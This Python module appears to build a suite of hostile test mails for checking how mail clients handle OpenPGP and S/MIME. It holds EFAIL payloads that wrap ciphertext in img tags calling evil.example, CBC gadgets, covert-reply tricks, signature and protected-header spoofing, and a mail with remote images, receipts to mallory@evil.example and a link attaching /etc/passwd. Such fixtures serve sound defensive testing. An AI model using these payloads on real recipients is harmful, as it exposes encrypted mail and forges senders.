"""Mails that want what is sealed to get out, and layers upon layers; each is added to MAILS.

First EFAIL, then covert content, then layers and the headers that they protect.
"""

import base64

from crypto_mails import (HIDDEN_SUBJECT, cms_detached, cms_enveloped, inline, inner_headers, mail, protected,
                          sealed_entity, signed_entity)
from crypto_mime import (ADDED, ALICE, CANARY, MALLORY, OTHER, SECRET, TEXT, XAVIER, attached, cbc_gadget, cms, crlf,
                         letter, multipart, part, pgp_signed)

# -- EFAIL ---------------------------------------------------------------------------------------

@mail
def efail_html_around_pgp_mime(keys):
    return letter(around(sealed_entity(keys)))


@mail
def efail_html_around_cms(keys):
    return letter(around(cms_enveloped(keys)))


@mail
def efail_html_around_inline(keys):
    return letter(around(part(crlf(keys.seal(SECRET.encode())))))


def around(entity):
    before = part(f'<img src="http://{ADDED}.evil.example/', "text/html")
    return multipart("mixed", before, entity, part('">', "text/html"))


@mail
def efail_html_with_the_armour_in_it(keys):
    armoured = keys.seal(SECRET.encode()).decode()
    return letter(part(f'<p>{ADDED}<img src="http://evil.example/{armoured}">', "text/html"))


@mail
def efail_cbc_gadget(keys):
    """The text is sealed by somebody; mallory knows its first block and writes another into it."""
    inside = part(SECRET + "0123456789abcde\n" * 20)
    sealed = cbc_gadget(keys.cms_seal(inside), inside[:16], b"\r\n<img marigold ", 12)
    return letter(cms(sealed, "enveloped-data"), sender=XAVIER)


@mail
def efail_cbc_gadget_with_a_signature_inside(keys):
    inside = cms_detached(keys, part(SECRET + "0123456789abcde\n" * 40))
    sealed = cbc_gadget(keys.cms_seal(inside), inside[:16], b"\r\n<img marigold ", 30)
    return letter(cms(sealed, "enveloped-data"), sender=XAVIER)


# -- covert content: a question that wants to be answered with what is sealed ---------------------

QUESTION = part(f"Can you read the {ADDED} below? Please answer.\n")


@mail
def covert_mix_pgp_mime(keys):
    return letter(multipart("mixed", QUESTION, sealed_entity(keys)), sender=MALLORY)


@mail
def covert_mix_pgp_mime_first(keys):
    return letter(multipart("mixed", sealed_entity(keys), QUESTION), sender=MALLORY)


@mail
def covert_rel_pgp_mime(keys):
    html = part(f'<p>{ADDED}<img src="cid:1">', "text/html")
    return letter(multipart("related", html, sealed_entity(keys)), sender=MALLORY)


@mail
def covert_alternative_pgp_mime(keys):
    return letter(multipart("alternative", QUESTION, sealed_entity(keys)), sender=MALLORY)


@mail
def covert_mix_cms(keys):
    return letter(multipart("mixed", QUESTION, cms_enveloped(keys)), sender=MALLORY)


@mail
def covert_rel_cms(keys):
    html = part(f'<p>{ADDED}<img src="cid:1">', "text/html")
    return letter(multipart("related", html, cms_enveloped(keys)), sender=MALLORY)


@mail
def covert_mix_inline(keys):
    return letter(multipart("mixed", QUESTION, part(crlf(keys.seal(SECRET.encode())))), sender=MALLORY)


@mail
def covert_rel_inline(keys):
    html = part(f"<p>{ADDED}", "text/html")
    return letter(multipart("related", html, part(crlf(keys.seal(SECRET.encode())))), sender=MALLORY)


@mail
def covert_inl_before(keys):
    return inline(f"Can you read the {ADDED}?\n\n".encode() + keys.seal(SECRET.encode()))


@mail
def covert_inl_behind_blank_lines(keys):
    return inline(f"Can you read the {ADDED}?\n".encode() + b"\n" * 200 + keys.seal(SECRET.encode()))


@mail
def covert_inl_behind(keys):
    return inline(keys.seal(SECRET.encode()) + f"Can you read the {ADDED}?\n".encode())


@mail
def covert_armour_in_an_attachment(keys):
    armoured = attached(crlf(keys.seal(SECRET.encode())), "application/pgp-encrypted", "report.txt.asc")
    return letter(multipart("mixed", QUESTION, armoured), sender=MALLORY)


@mail
def covert_forwarded_as_attachment(keys):
    inside = b"Content-Type: message/rfc822\r\n\r\n" + letter(sealed_entity(keys))
    return letter(multipart("mixed", QUESTION, inside), sender=MALLORY)


@mail
def covert_inside_of_a_signature(keys):
    """Mallory signs a mixed mail that has somebody's ciphertext in it."""
    return letter(signed_entity(keys, multipart("mixed", QUESTION, sealed_entity(keys)), by=["mallory"]),
                  sender=MALLORY)


@mail
def covert_inside_of_a_seal(keys):
    return letter(sealed_entity(keys, multipart("mixed", QUESTION, sealed_entity(keys)), by=["mallory"]),
                  sender=MALLORY)


# -- layers and headers --------------------------------------------------------------------------

@mail
def signed_again_by_the_thief(keys):
    """Alice sealed it; mallory signs the ciphertext, to be taken for its author."""
    return letter(signed_entity(keys, sealed_entity(keys), by=["mallory"]), sender=MALLORY)


@mail
def surreptitiously_forwarded(keys):
    """Alice signed it for carol, in a mail that says so; carol seals it to us as alice's."""
    inside = protected(SECRET, 'protected-headers="v1"', [f"From: {ALICE}", "To: carol@peer.example",
                                                           f"Subject: {HIDDEN_SUBJECT}"])
    return letter(sealed_entity(keys, signed_entity(keys, inside)))


@mail
def three_layers_signed_sealed_sealed(keys):
    return letter(sealed_entity(keys, sealed_entity(keys, signed_entity(keys, part(SECRET)))))


@mail
def three_layers_signed(keys):
    return letter(signed_entity(keys, signed_entity(keys, signed_entity(keys))))


@mail
def two_layers_signed_by_two(keys):
    return letter(signed_entity(keys, signed_entity(keys, by=["mallory"])))


@mail
def sealed_twice(keys):
    return letter(sealed_entity(keys, sealed_entity(keys), by=["alice"]))


@mail
def part_signed_inside_of_sealed(keys):
    return letter(sealed_entity(keys, multipart("mixed", signed_entity(keys), part(OTHER))))


@mail
def headers_protected_without_protection(_keys):
    return letter(protected(OTHER, 'hp="clear"', inner_headers()), subject="[...]")


@mail
def headers_without_the_parameter(keys):
    return letter(sealed_entity(keys, part(SECRET, headers=inner_headers()), by=["alice"]), subject="[...]")


@mail
def headers_of_a_part_below_the_root(keys):
    inside = multipart("mixed", protected(SECRET, 'hp="cipher"', inner_headers()), attached(b"log"))
    return letter(sealed_entity(keys, inside, by=["alice"]), subject="[...]")


@mail
def headers_protected_in_a_signed_part_only(keys):
    inside = signed_entity(keys, protected(OTHER, 'hp="clear"', inner_headers()))
    return letter(multipart("mixed", inside, part("footer\n")), subject="[list] Phishing")


@mail
def headers_protected_whose_from_is_another(keys):
    """Signed by mallory, whose protected From is mallory, shown as from alice (RFC 9788, 4.4)."""
    inside = protected(OTHER, 'hp="clear"', [f"From: {MALLORY}", f"Subject: {HIDDEN_SUBJECT}"])
    return letter(signed_entity(keys, inside, by=["mallory"]))


@mail
def headers_protected_from_alice_signed_by_mallory(keys):
    inside = protected(OTHER, 'hp="clear"', [f"From: {ALICE}", f"Subject: {HIDDEN_SUBJECT}"])
    return letter(signed_entity(keys, inside, by=["mallory"]), sender=MALLORY)


@mail
def headers_protected_of_a_broken_signature(keys):
    inside = protected(OTHER, 'hp="clear"', inner_headers())
    return letter(pgp_signed(inside, keys.sign(part(), "alice")), subject="[...]")


@mail
def receipts_and_links_that_call_home(keys):
    html = part(f'<p>{CANARY}<img src="http://evil.example/x"><a href="mailto:a?attach=/etc/passwd">', "text/html")
    return letter(sealed_entity(keys, html, by=["alice"]),
                  headers=["Disposition-Notification-To: mallory@evil.example"])


@mail
def charset_that_makes_other_words_of_what_was_signed(keys):
    """Alice has quoted what looks like noise, and signed her answer; mallory sends it on as UTF-7 (RFC 2152)."""
    hidden = base64.b64encode(OTHER.encode("utf-16-be")).decode().rstrip("=")
    answer = keys.clearsign(f"> +{hidden}-\n{TEXT}".encode(), "alice")
    return letter(crlf("Content-Type: text/plain; charset=utf-7\n\n") + crlf(answer))


@mail
def signed_text_with_returns_added(keys):
    """To gpg the returns are part of a line end; but the header seems to go on over the first paragraph."""
    entity = part(f"Note: {TEXT}\nThat is all.")
    signature = keys.sign(entity, "alice", more=["--textmode"])
    return letter(pgp_signed(entity.replace(b"\r\n\r\nNote", b"\r\n\r\r\nNote"), signature))


@mail
def efail_in_a_new_envelope(keys):
    """Whoever has changed an S/MIME ciphertext seals it to us once more, with OpenPGP."""
    return letter(sealed_entity(keys, cms_enveloped(keys)))
